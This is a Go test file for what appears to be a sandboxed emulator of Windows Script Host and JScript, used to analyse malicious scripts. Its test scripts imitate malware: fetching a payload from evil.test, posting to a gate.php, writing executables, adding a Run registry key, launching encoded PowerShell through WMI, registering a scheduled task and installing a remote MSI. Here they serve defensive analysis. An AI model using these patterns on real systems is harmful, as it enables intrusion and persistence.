package emulator

import (
	"testing"

	"github.com/arturoeanton/wshbox/ioc"
	"github.com/arturoeanton/wshbox/literals"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestXMLHTTPRecordsSingleRequest(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var x = new ActiveXObject("MSXML2.XMLHTTP");
		x.open("GET", "http://evil.test/payload.bin", false);
		x.setRequestHeader("User-Agent", "agent");
		x.send();
		x.status + ":" + x.readyState
	`)
	assert.Equal(t, "200:4", v.String())

	requests := s.rec.EventsByCategory(ioc.CategoryNetworkRequest)
	require.Len(t, requests, 1)
	assert.Equal(t, "GET", requests[0].Payload["method"])
	assert.Equal(t, "http://evil.test/payload.bin", requests[0].Payload["url"])
	assert.Equal(t, []string{"http://evil.test/payload.bin"}, s.rec.URLs())
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryRequestHeader), 1)
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryNetworkSend), 1)
}

func TestXMLHTTPCallsReadyStateHandler(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var seen = -1;
		var x = new XMLHttpRequest();
		x.onreadystatechange = function() { seen = x.readyState; };
		x.open("POST", "http://evil.test/gate.php");
		x.send("id=1");
		seen
	`)
	assert.Equal(t, int64(4), v.ToInteger())
	send := s.rec.EventsByCategory(ioc.CategoryNetworkSend)
	require.Len(t, send, 1)
	assert.Equal(t, "id=1", send[0].Payload["body"])
}

func TestFileSystemAndStreamRoundTrip(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var fso = new ActiveXObject("Scripting.FileSystemObject");
		var f = fso.CreateTextFile("C:\\Users\\Public\\a.txt", true);
		f.WriteLine("hello");
		f.Close();

		var in1 = new ActiveXObject("ADODB.Stream");
		in1.Type = 1;
		in1.Open();
		in1.LoadFromFile("C:\\Users\\Public\\a.txt");
		var data = in1.Read();

		var out = new ActiveXObject("ADODB.Stream");
		out.Type = 1;
		out.Open();
		out.Write(data);
		out.SaveToFile("C:\\Users\\Public\\b.exe", 2);
		out.Close();
		fso.FileExists("c:\\users\\public\\B.EXE") && !fso.FileExists("C:\\nope.txt")
	`)
	assert.True(t, v.ToBoolean())

	data, ok := s.FS().Read(`C:\Users\Public\b.exe`)
	require.True(t, ok)
	assert.Equal(t, "hello\r\n", string(data))

	writes := s.rec.EventsByCategory(ioc.CategoryFileWrite)
	require.Len(t, writes, 2)
	assert.Equal(t, "TextStream", writes[0].Payload["origin"])
	assert.Equal(t, "ADODB.Stream", writes[1].Payload["origin"])
	assert.Len(t, s.rec.Resources(), 2)
}

func TestTextStreamReportedOnClose(t *testing.T) {
	s := newTestScope(t, Options{})
	s.run(t, `
		var fso = new ActiveXObject("Scripting.FileSystemObject");
		var f = fso.OpenTextFile(fso.GetSpecialFolder(2) + "\\x.bat", 8, true);
		f.Write("calc.exe");
	`)
	assert.Empty(t, s.rec.EventsByCategory(ioc.CategoryFileWrite))
	s.Close()
	writes := s.rec.EventsByCategory(ioc.CategoryFileWrite)
	require.Len(t, writes, 1)
	assert.Equal(t, literals.TEMP_DIR+`\x.bat`, writes[0].Payload["path"])
}

func TestStreamTextCharsets(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var st = new ActiveXObject("ADODB.Stream");
		st.Type = 2;
		st.Charset = "iso-8859-1";
		st.Open();
		st.WriteText("\u00e9t\u00e9");
		st.Position = 0;
		st.ReadText()
	`)
	assert.Equal(t, "été", v.String())

	v = s.run(t, `
		var u = new ActiveXObject("ADODB.Stream");
		u.Type = 2;
		u.Open();
		u.WriteText("ab");
		u.Size
	`)
	assert.Equal(t, int64(6), v.ToInteger())
}

func TestBase64ThroughXMLNode(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var doc = new ActiveXObject("Msxml2.DOMDocument.6.0");
		var el = doc.createElement("b64");
		el.dataType = "bin.base64";
		el.text = "TVqQAA==";
		var st = new ActiveXObject("ADODB.Stream");
		st.Type = 1;
		st.Open();
		st.Write(el.nodeTypedValue);

		var back = doc.createElement("back");
		back.dataType = "bin.hex";
		st.Position = 0;
		back.nodeTypedValue = st.Read();
		back.text
	`)
	assert.Equal(t, "4d5a9000", v.String())
}

func TestDictionary(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var d = new ActiveXObject("Scripting.Dictionary");
		d.Add("a", 1);
		d.Add("b", 2);
		var dup = false;
		try { d.Add("a", 3); } catch (e) { dup = true; }
		var keys = [];
		for (var e = new Enumerator(d); !e.atEnd(); e.moveNext()) keys.push(e.item());
		d.Remove("a");
		[dup, keys.join(), d.Count, d.Exists("a"), d.Item("b"), d.Items().join()].join("|")
	`)
	assert.Equal(t, "true|a,b|1|false|2|2", v.String())
}

func TestShellRecordsCommandsAndRegistry(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var sh = WScript.CreateObject("WScript.Shell");
		sh.Run("cmd.exe /c whoami", 0, true);
		sh.RegWrite("HKCU\\Software\\Run\\evil", "C:\\evil.exe", "REG_SZ");
		[
			sh.RegRead("HKEY_CURRENT_USER\\Software\\Run\\evil"),
			sh.ExpandEnvironmentStrings("%APPDATA%"),
			sh.Environment("PROCESS")("USERNAME"),
			sh.SpecialFolders("Startup")
		].join("|")
	`)
	assert.Equal(t, `C:\evil.exe|`+literals.APPDATA+`|`+literals.USER_NAME+`|`+literals.APPDATA+`\Microsoft\Windows\Start Menu\Programs\Startup`, v.String())

	runs := s.rec.EventsByCategory(ioc.CategoryCommandRun)
	require.Len(t, runs, 1)
	assert.Equal(t, "cmd.exe /c whoami", runs[0].Payload["command"])
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryRegistryWrite), 1)
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryRegistryRead), 1)
}

func TestShellApplicationShellExecute(t *testing.T) {
	s := newTestScope(t, Options{})
	s.run(t, `new ActiveXObject("Shell.Application").ShellExecute("payload.exe", "/s", "C:\\tmp\\", "open", 0);`)
	runs := s.rec.EventsByCategory(ioc.CategoryCommandRun)
	require.Len(t, runs, 1)
	assert.Equal(t, `C:\tmp\payload.exe /s`, runs[0].Payload["command"])
}

func TestWMIProcessCreate(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var p = GetObject("winmgmts:{impersonationLevel=impersonate}!\\\\.\\root\\cimv2:Win32_Process");
		p.Create("powershell -enc AAAA", null, null, 0);
		var os = GetObject("winmgmts:\\\\.\\root\\cimv2").ExecQuery("SELECT * FROM Win32_OperatingSystem");
		var names = [];
		for (var e = new Enumerator(os); !e.atEnd(); e.moveNext()) names.push(e.item().Caption);
		names.join()
	`)
	assert.Equal(t, "Microsoft Windows 7 Professional", v.String())
	creates := s.rec.EventsByCategory(ioc.CategoryProcessCreate)
	require.Len(t, creates, 1)
	assert.Equal(t, "powershell -enc AAAA", creates[0].Payload["command"])
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryWMIQuery), 2)
}

func TestScheduledTaskRegistration(t *testing.T) {
	s := newTestScope(t, Options{})
	s.run(t, `
		var svc = new ActiveXObject("Schedule.Service");
		svc.Connect();
		var task = svc.NewTask(0);
		task.Triggers.Create(9);
		var action = task.Actions.Create(0);
		action.Path = "C:\\Users\\Public\\upd.exe";
		action.Arguments = "-q";
		svc.GetFolder("\\").RegisterTaskDefinition("Updater", task, 6, null, null, 3);
	`)
	tasks := s.rec.EventsByCategory(ioc.CategoryScheduledTask)
	require.Len(t, tasks, 1)
	assert.Equal(t, "Updater", tasks[0].Payload["name"])
	actions := tasks[0].Payload["actions"].([]map[string]interface{})
	require.Len(t, actions, 1)
	assert.Equal(t, `C:\Users\Public\upd.exe`, actions[0]["path"])
}

func TestDocumentWriteRunsScripts(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var written = 0;
		document.write("<p>x</p><script>written = 42;</script><script src='http://cdn.test/x.js'></script>");
		written
	`)
	assert.Equal(t, int64(42), v.ToInteger())
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryDOMWrite), 1)
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryRemoteScript), 1)
	assert.Contains(t, s.rec.URLs(), "http://cdn.test/x.js")
}

func TestAppendedScriptElementRuns(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var ran = false;
		var el = document.createElement("script");
		el.text = "ran = true;";
		document.getElementsByTagName("head")[0].appendChild(el);
		var remote = document.createElement("script");
		remote.src = "http://cdn.test/y.js";
		ran
	`)
	assert.True(t, v.ToBoolean())
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryDOMAppend), 1)
	assert.Contains(t, s.rec.URLs(), "http://cdn.test/y.js")
}

func TestLocationChangesAreRecorded(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var host = location.host + location.pathname;
		window.location.replace("http://evil.test/a");
		location.href = "http://evil.test/b";
		location = "http://evil.test/c";
		host
	`)
	assert.Equal(t, "mylegitdomain.com:2112/and/i/have/a/path.php", v.String())
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryWindowLocation), 3)
	assert.Equal(t, []string{"http://evil.test/a", "http://evil.test/b", "http://evil.test/c"}, s.rec.URLs())
}

func TestScriptControlRunsJScript(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var sc = new ActiveXObject("MSScriptControl.ScriptControl");
		sc.Language = "JScript";
		sc.AddCode("function twice(x) { return x * 2; }");
		sc.Eval("twice(21)")
	`)
	assert.Equal(t, int64(42), v.ToInteger())
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryScriptControl), 2)

	s.run(t, `
		var vb = new ActiveXObject("ScriptControl");
		vb.Language = "VBScript";
		vb.AddCode("MsgBox 1");
	`)
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryScriptControl), 3)
}

func TestInstallerAndNetwork(t *testing.T) {
	s := newTestScope(t, Options{})
	v := s.run(t, `
		var inst = new ActiveXObject("WindowsInstaller.Installer");
		inst.UILevel = 2;
		inst.InstallProduct("http://evil.test/setup.msi", "ACTION=ADMIN");
		new ActiveXObject("WScript.Network").UserName
	`)
	assert.Equal(t, literals.USER_NAME, v.String())
	assert.Len(t, s.rec.EventsByCategory(ioc.CategoryInstaller), 1)
	assert.Equal(t, []string{"http://evil.test/setup.msi"}, s.rec.URLs())
}
